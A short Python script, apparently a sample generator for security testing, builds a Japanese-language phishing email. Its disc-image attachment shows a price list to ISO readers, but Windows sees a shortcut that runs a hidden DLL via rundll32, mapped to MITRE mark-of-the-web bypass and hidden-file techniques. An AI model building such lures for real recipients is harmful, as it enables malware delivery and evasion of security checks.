"""A disc image with two file systems: who reads ISO 9660 sees a price list, Windows
reads UDF and shows a shortcut, with a hidden library beside it.
Scenario: MITRE ATT&CK T1553.005, T1564.001."""
from kit import *


def make():
    iso = Iso().add("価格表.txt", "単価 1,200円\r\n".encode("cp932")).bytes(middle=VRS)
    both = (Udf(base=iso, metadata=True).add("見積書.lnk", lnk("/c rundll32 data.bin,Run"))
            .add("data.bin", Pe(dll=True).bytes(), hidden=True).bytes())
    return (Mail("見積依頼の件", "sales@trade.example.com").text("お世話になっております。\n見積書をお送りします。\n")
            .attach("見積書.img", both).bytes())
